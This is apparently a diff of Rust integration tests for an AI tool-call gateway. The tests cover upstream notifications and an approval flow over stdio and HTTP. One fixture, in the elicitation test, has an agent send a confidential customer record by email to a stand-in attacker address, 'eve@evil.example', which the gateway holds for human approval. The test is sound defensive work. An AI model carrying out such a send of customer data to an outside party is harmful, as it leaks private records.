@@ -599,6 +599,40 @@ fn a_modern_host_reaches_a_handshake_era_upstream_through_the_gateway() {
     }
 }
 
+/// What the upstream sends the host while a call is open (here a log notification) reaches the host: over
+/// stdio as it came, over Streamable HTTP on the call's SSE stream.
+#[test]
+fn upstream_notifications_reach_the_host_on_both_doors() {
+    let gateway = start(None);
+    let doors = [
+        vec!["--stdio".to_owned(), gateway_command(&gateway.server.url)],
+        vec![
+            "--http".to_owned(),
+            format!("{}/mcp/crm", gateway.server.url),
+            "--header".to_owned(),
+            format!("Authorization=Bearer {}", gateway.agent),
+        ],
+    ];
+    for door in &doors {
+        let steps = json!([{"op": "call_tool", "name": "echo", "arguments": {"text": "hello"}}]);
+        let mut args = door.clone();
+        args.push("--notifications".to_owned());
+        let args: Vec<&str> = args.iter().map(String::as_str).collect();
+        let lines = run_client_all(&args, &gateway.agent, PROTOCOLS[0], &steps, &[]);
+        let logged: Vec<&Value> = lines
+            .iter()
+            .filter(|line| line["notification"]["method"] == "notifications/message")
+            .collect();
+        assert_eq!(logged.len(), 1, "{}: {lines:?}", door[0]);
+        assert_eq!(
+            logged[0]["notification"]["params"]["data"], "echoing 5 characters",
+            "{lines:?}"
+        );
+        let answer = lines.iter().find(|line| line["op"] == "call_tool").unwrap();
+        assert_eq!(text(answer), "hello", "{lines:?}");
+    }
+}
+
 /// A path beside the data directory (for the client's `signal` and `wait_file` steps).
 fn spot(scratch: &Scratch, name: &str) -> String {
     scratch.data().with_file_name(name).to_str().unwrap().to_owned()
@@ -764,74 +798,87 @@ fn a_send_after_a_confidential_read_is_held_then_allowed_once_after_approval() {
 /// A host that can ask its user (elicitation) is asked whether to wait for the approver when a call is held:
 /// on the handshake protocol as an `elicitation/create` request, on 2026-07-28 as an `input_required` result
 /// the client answers by retrying. Accepted, the call waits, and goes ahead once an approver approves it;
-/// declined, the host gets the held result at once.
+/// declined, the host gets the held result at once. Over stdio and over Streamable HTTP (where the
+/// question travels on the call's SSE stream).
 #[test]
 fn a_host_that_elicits_can_wait_for_the_approver() {
     let gateway = start(None);
     let approver = gateway.server.token("ann", "approver");
-    for protocol in PROTOCOLS {
-        for action in ["accept", "decline"] {
-            let session = format!("elicit-{protocol}-{action}");
-            let meta = json!({"warrant/session": session});
-            let steps = json!([
-                {"op": "call_tool", "name": "lookup_customer", "arguments": {"customer_id": "c1"}, "meta": meta},
-                {"op": "call_tool", "name": "send_email", "meta": meta,
-                 "arguments": {"to": "eve@evil.example", "subject": "your data", "body": "c1's record"}},
-            ]);
-            let (url, token) = (gateway.server.url.clone(), gateway.agent.clone());
-            let command = gateway_command(&url);
-            let run = std::thread::spawn(move || {
-                let door = ["--stdio", command.as_str(), "--elicit", action];
-                run_client_all(&door, &token, protocol, &steps, &[])
-            });
-            if action == "accept" {
-                // The approver acts while the call waits.
-                let deadline = Instant::now() + Duration::from_secs(60);
-                let approval = loop {
-                    let pending = gateway.server.get_ok("/v1/approvals?status=pending", &approver);
-                    let ours = pending["items"].as_array().unwrap().iter().find_map(|approval| {
-                        (approval["session"] == session.as_str())
-                            .then(|| approval["id"].as_str().unwrap().to_owned())
-                    });
-                    if let Some(ours) = ours {
-                        break ours;
-                    }
-                    assert!(Instant::now() < deadline, "no approval was requested");
-                    std::thread::sleep(Duration::from_millis(50));
-                };
-                let (status, answer) = gateway.server.post_json(
-                    &format!("/v1/approvals/{approval}/approve"),
-                    &approver,
-                    &json!({"reason": "the customer asked for it"}),
-                );
-                assert_eq!(status, 200, "{answer}");
-            }
-            let lines = run.join().unwrap();
-            let (asked, answers): (Vec<&Value>, Vec<&Value>) = lines
-                .iter()
-                .skip(1)
-                .partition(|line| line.get("elicitation").is_some());
-            assert_eq!(asked.len(), 1, "{protocol} {action}: {lines:?}");
-            let message = asked[0]["elicitation"]["message"].as_str().unwrap();
-            assert!(message.contains("held the call to `send_email`"), "{message}");
-            assert_eq!(answers.len(), 2, "{lines:?}");
-            let steps = session_events(&gateway.server, gateway.server.admin(), &session);
-            if action == "accept" {
-                assert_eq!(
-                    (answers[1]["isError"].as_bool(), text(answers[1])),
-                    (Some(false), "sent to eve@evil.example"),
-                    "{protocol}: {lines:?}"
-                );
-                assert_eq!(
-                    decisions(&steps, "send-email"),
-                    ["approval_required", "allow"],
-                    "{protocol}"
-                );
-            } else {
-                assert_eq!(answers[1]["isError"], true, "{protocol}: {lines:?}");
-                assert!(text(answers[1]).contains("held this call"), "{lines:?}");
-                assert_eq!(decisions(&steps, "send-email"), ["approval_required"]);
-            }
+    let doors = [
+        vec!["--stdio".to_owned(), gateway_command(&gateway.server.url)],
+        vec![
+            "--http".to_owned(),
+            format!("{}/mcp/crm", gateway.server.url),
+            "--header".to_owned(),
+            format!("Authorization=Bearer {}", gateway.agent),
+        ],
+    ];
+    for (protocol, door, action) in PROTOCOLS
+        .into_iter()
+        .flat_map(|protocol| doors.iter().map(move |door| (protocol, door)))
+        .flat_map(|(protocol, door)| ["accept", "decline"].map(|action| (protocol, door, action)))
+    {
+        let session = format!("elicit-{protocol}-{}-{action}", &door[0][2..]);
+        let meta = json!({"warrant/session": session});
+        let steps = json!([
+            {"op": "call_tool", "name": "lookup_customer", "arguments": {"customer_id": "c1"}, "meta": meta},
+            {"op": "call_tool", "name": "send_email", "meta": meta,
+             "arguments": {"to": "eve@evil.example", "subject": "your data", "body": "c1's record"}},
+        ]);
+        let token = gateway.agent.clone();
+        let mut args = door.clone();
+        args.extend(["--elicit".to_owned(), action.to_owned()]);
+        let run = std::thread::spawn(move || {
+            let args: Vec<&str> = args.iter().map(String::as_str).collect();
+            run_client_all(&args, &token, protocol, &steps, &[])
+        });
+        if action == "accept" {
+            // The approver acts while the call waits.
+            let deadline = Instant::now() + Duration::from_secs(60);
+            let approval = loop {
+                let pending = gateway.server.get_ok("/v1/approvals?status=pending", &approver);
+                let ours = pending["items"].as_array().unwrap().iter().find_map(|approval| {
+                    (approval["session"] == session.as_str())
+                        .then(|| approval["id"].as_str().unwrap().to_owned())
+                });
+                if let Some(ours) = ours {
+                    break ours;
+                }
+                assert!(Instant::now() < deadline, "no approval was requested");
+                std::thread::sleep(Duration::from_millis(50));
+            };
+            let (status, answer) = gateway.server.post_json(
+                &format!("/v1/approvals/{approval}/approve"),
+                &approver,
+                &json!({"reason": "the customer asked for it"}),
+            );
+            assert_eq!(status, 200, "{answer}");
+        }
+        let lines = run.join().unwrap();
+        let (asked, answers): (Vec<&Value>, Vec<&Value>) = lines
+            .iter()
+            .skip(1)
+            .partition(|line| line.get("elicitation").is_some());
+        assert_eq!(asked.len(), 1, "{protocol} {action}: {lines:?}");
+        let message = asked[0]["elicitation"]["message"].as_str().unwrap();
+        assert!(message.contains("held the call to `send_email`"), "{message}");
+        assert_eq!(answers.len(), 2, "{lines:?}");
+        let steps = session_events(&gateway.server, gateway.server.admin(), &session);
+        if action == "accept" {
+            assert_eq!(
+                (answers[1]["isError"].as_bool(), text(answers[1])),
+                (Some(false), "sent to eve@evil.example"),
+                "{protocol}: {lines:?}"
+            );
+            assert_eq!(
+                decisions(&steps, "send-email"),
+                ["approval_required", "allow"],
+                "{protocol}"
+            );
+        } else {
+            assert_eq!(answers[1]["isError"], true, "{protocol}: {lines:?}");
+            assert!(text(answers[1]).contains("held this call"), "{lines:?}");
+            assert_eq!(decisions(&steps, "send-email"), ["approval_required"]);
         }
     }
 }
@@ -1080,7 +1127,13 @@ for line in sys.stdin:
             if expected.is_null() {
                 continue;
             }
-            let answer: Value = serde_json::from_str(&output.next().unwrap().unwrap()).unwrap();
+            // Notifications the upstream sends meanwhile (echo logs what it does) are not answers.
+            let answer: Value = loop {
+                let line: Value = serde_json::from_str(&output.next().unwrap().unwrap()).unwrap();
+                if line.get("method").is_none() {
+                    break line;
+                }
+            };
             assert_eq!(answer["jsonrpc"], "2.0", "{upstream}: {sent} → {answer}");
             assert_eq!(answer["id"], expected["id"], "{upstream}: {sent} → {answer}");
             if let Some(code) = expected.get("code") {
